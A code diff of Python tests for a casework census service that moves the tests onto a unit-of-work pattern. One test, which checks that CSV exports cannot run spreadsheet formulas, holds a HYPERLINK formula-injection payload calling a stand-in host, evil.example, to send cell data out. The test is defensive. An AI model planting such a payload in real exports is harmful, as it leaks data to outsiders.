@@ -142,7 +142,6 @@ async def test_the_census_counts_each_case_as_it_stood_on_the_census_date(stack,
     last in education. The 1 Oct return is unchanged by all three; a return dated today shows them."""
     from datetime import UTC, datetime
 
-    from cme_casework.service_layer.casework import today
     from cme_casework.service_layer.rights import on_rectification
     from cme_shared.contracts.rights import FactualRectification
 
@@ -153,11 +152,11 @@ async def test_the_census_counts_each_case_as_it_stood_on_the_census_date(stack,
     moved = await stack.referral(make_referral(deletion_date=date(2026, 9, 14), **referral))
     learned = await stack.referral(make_referral(**referral))
 
-    casework = stack.app.state.casework
-    async with casework.runtime.sessions.begin() as session:
-        await on_rectification(session, casework, FactualRectification(
+    async with stack.unit_of_work() as uow:
+        await on_rectification(uow, FactualRectification(
             event_id=uuid.uuid4(), occurred_at=datetime.now(UTC), rights_request_id=uuid.uuid4(),
             subject_id=rectified_child, field="sex", new_value="male", decided_by="dpo-1"))
+        await uow.commit()
     moving = await stack.client.post(f"/cases/{moved}/borough", headers=manager,
                                      json={"borough": "kensington_and_chelsea", "reason": "family moved"})
     assert moving.status_code == 200, moving.text
@@ -175,7 +174,7 @@ async def test_the_census_counts_each_case_as_it_stood_on_the_census_date(stack,
     rbkc = stack.headers("officer", borough="kensington_and_chelsea")
     assert rows(await stack.client.get(f"/returns/cme-census?census_date={CENSUS}", headers=rbkc)) == []
 
-    now = today().isoformat()
+    now = stack.runtime.clock.today().isoformat()
     response = await stack.client.get(f"/returns/cme-census?census_date={now}", headers=manager)
     assert response.status_code == 200, response.text
     later = [row[1:] for row in csv.reader(io.StringIO(response.text))][1:]  # borough, reason, sex, year, time, n
@@ -189,10 +188,9 @@ async def test_no_census_cell_can_be_read_as_a_formula(stack, make_referral):
     before that check (written here as the old code wrote it) reaches the CSV only as text."""
     from dataclasses import replace
 
-    from cme_casework.adapters.repository import CaseRecords
     from cme_casework.domain import opening, referral_entries
     from cme_casework.domain.lifecycle import CaseState
-    from cme_casework.service_layer.casework import record
+    from cme_casework.service_layer.case_writes import append_entries
 
     formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
     forged = await stack.referral(make_referral(sex=formula, dob=Y6, received_on=date(2026, 9, 15),
@@ -204,10 +202,10 @@ async def test_no_census_cell_can_be_read_as_a_formula(stack, make_referral):
                            borough="kensington_and_chelsea")
     [opened, *rest] = referral_entries.open_case(legacy, opening.decide(legacy), uuid.uuid4(), date(2026, 9, 15))
     opened = replace(opened, detail={**opened.detail, "child": {**opened.detail["child"], "sex": formula}})
-    casework = stack.app.state.casework
-    async with casework.runtime.sessions.begin() as session:
-        await record(casework, CaseRecords(session), CaseState(), [opened, *rest],
-                     case_id=uuid.UUID(opened.detail["case_id"]), child_subject_id=legacy.child_subject_id)
+    async with stack.unit_of_work() as uow:
+        await append_entries(uow, CaseState(), [opened, *rest], case_id=uuid.UUID(opened.detail["case_id"]),
+                             child_subject_id=legacy.child_subject_id)
+        await uow.commit()
 
     response = await stack.client.get(f"/returns/cme-census?census_date={CENSUS}", headers=stack.headers("manager"))
     table = rows(response)
